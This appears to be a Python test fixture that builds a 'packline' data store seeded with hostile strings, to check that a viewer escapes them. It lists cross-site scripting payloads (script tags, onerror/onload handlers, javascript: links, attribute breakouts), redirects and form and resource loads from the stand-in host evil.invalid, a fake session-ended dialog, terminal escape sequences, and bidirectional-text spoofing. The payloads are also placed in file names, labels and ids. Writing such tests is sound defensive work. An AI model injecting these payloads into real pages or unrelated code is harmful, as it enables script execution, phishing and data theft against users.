"""Text that tries to be more than text, and a store that is full of it.

Each of `TEXTS` would do something that a test can see if a page took it for markup: run a script that sets
`window.__hacked`, open a dialog, load from `evil.invalid`, leave the page, hide it, turn its direction round,
or push it wider than its window. The same go into names of files, ids, labels and sources.
"""

from __future__ import annotations

import json
from pathlib import Path

import packline
from packline.facade import Store

RUN = "window.__hacked=1"
ELSEWHERE = "http://evil.invalid"
ESCAPE = "\x1b"

TEXTS = (
    f"<script>{RUN};alert(1)</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src={ELSEWHERE}/x.js></sCrIpT>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src={ELSEWHERE}/pixel onerror="{RUN}">',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    f"</textarea></title></style><script>{RUN}</script>",
    "<style>body{display:none} *{background:url(http://evil.invalid/css)}</style>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<a href="javascript:{RUN}">press me</a>',
    f"javascript:{RUN}",
    f'" onfocus="{RUN}" autofocus="',
    f"' onmouseover='{RUN}' x='",
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    f'<base href="{ELSEWHERE}/"><link rel=stylesheet href="/x.css">',
    f"<form action={ELSEWHERE}><input name=q autofocus onfocus={RUN}></form>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    "<dialog open><h1>Your session has ended</h1></dialog><!-- <!--",
    "]]> --> <![CDATA[ &lt;b&gt; &#60;b&#62; &amp;amp; {{7*7}} ${7*7} <%= 7*7 %>",
    "\u202egnp.exe\u202c and \u2067right to left\u2069, \u061cArabic mark, \u200ezero \u200bwidth\u2060",
    f"{ESCAPE}[2J{ESCAPE}[31mred{ESCAPE}[0m{ESCAPE}]0;owned\x07{ESCAPE}]8;;{ELSEWHERE}\x07link{ESCAPE}]8;;\x07",
    "\x00NUL\x01\x02\x7f\x80\x85\x9b\x9d backspaces \b\b\b\b, form feed \f, lines \u2028 and \u2029",
    "Z" + "\u0351\u036b\u0353\u036a\u0302\u036b\u033d\u034f\u0334\u0319" * 30 + "a\u0336l\u0336go",
    "W" * 10_000,
    "\u0e01\u0e33" * 2_000,
    "\ufdfd\ufdfd\ufdfd \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \ud7ff\ue000\ufffd",
    "\t" * 300 + "\n" * 300 + " " * 300,
)

NAME = f"<img src=x onerror={RUN}>\u202e\"'&amp;.jsonl"
"""Of a file and a source: whatever a file system takes."""


RECIPE = """
tokenizer = {tokenizer}
eod = "<|endoftext|>"

[[sources]]
inputs = [{folder}]
name = {name}
label = {label}
"""


def hostile_store(folder: Path, tokenizer: Path) -> Store:
    """A store of `TEXTS`, whose file, source, ids and label are as bad, with some plain text between."""
    records = [{"text": text, "id": text[:200]} for text in TEXTS]
    for number in range(4):
        records.insert(7 * number, {"text": "Plain words stand between them. " * 20, "id": str(number)})
    (folder / "in").mkdir(parents=True)
    lines = "".join(json.dumps(record) + "\n" for record in records)
    (folder / "in" / NAME).write_text(lines, "utf-8")
    values = {
        "tokenizer": str(tokenizer),
        "folder": str(folder / "in"),
        "name": f"</h1><script>{RUN}</script>",
        "label": f"\"'><svg onload={RUN}>\u202e",
    }
    recipe = folder / "recipe.toml"
    recipe.write_text(RECIPE.format(**{name: json.dumps(value) for name, value in values.items()}), "utf-8")
    return packline.build(recipe, out=folder / "store", workers=0)
